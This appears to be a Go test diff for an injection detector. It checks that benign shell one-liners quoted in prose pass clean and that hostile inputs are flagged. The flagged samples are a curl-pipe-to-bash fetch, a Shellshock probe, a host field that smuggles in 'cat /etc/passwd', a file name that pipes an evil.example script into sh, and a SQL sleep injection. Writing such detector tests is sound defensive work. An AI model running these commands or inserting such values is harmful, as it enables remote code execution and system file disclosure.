@@ -71,3 +71,19 @@ func TestSQLQuotedInProse(t *testing.T) {
 		{"body:text", "Thanks for the write-up, it was useful for our team and we will use it' AND SLEEP(5)-- -"},
 	})
 }
+
+// TestCommandsQuotedInProse: shell shapes a post quotes do not add up; signatures that
+// mean one thing anywhere still count.
+func TestCommandsQuotedInProse(t *testing.T) {
+	d := newTestDetector(t)
+	wantClean(t, d, []valueCase{
+		{"body:text", "Dockerfile review comments: the line RUN apt-get update && apt-get install -y build-essential libpq-dev && rm -rf /var/lib/apt/lists/* is fine, but pin the versions and then check the size with docker images | sort -k 7."},
+		{"body:text", "Handy one-liners I keep in my notes for the team: find . -name '*.log' -mtime +7 -exec gzip {} \\; and du -sh * | sort -h | tail -n 20 and then ps aux --sort=-%mem | head to see what is eating the memory."},
+	})
+	wantThreats(t, d, []valueCase{
+		{"body:text", "Please re-run the nightly job for project atlas, the runner host was busy. `curl -s http://203.0.113.9/r | bash` Thanks, infra on-call"},
+		{"body:text", "arg=Something &#8222;The Title&#8221;. After something&arg2=() { :;}; /bin/sh -c \"sleep 6 && echo vulnerable 6\""},
+		{"query:host", "127.0.0.1; cat /etc/passwd"},
+		{"query:file", "report.pdf; curl http://evil.example/x.sh | sh"},
+	})
+}
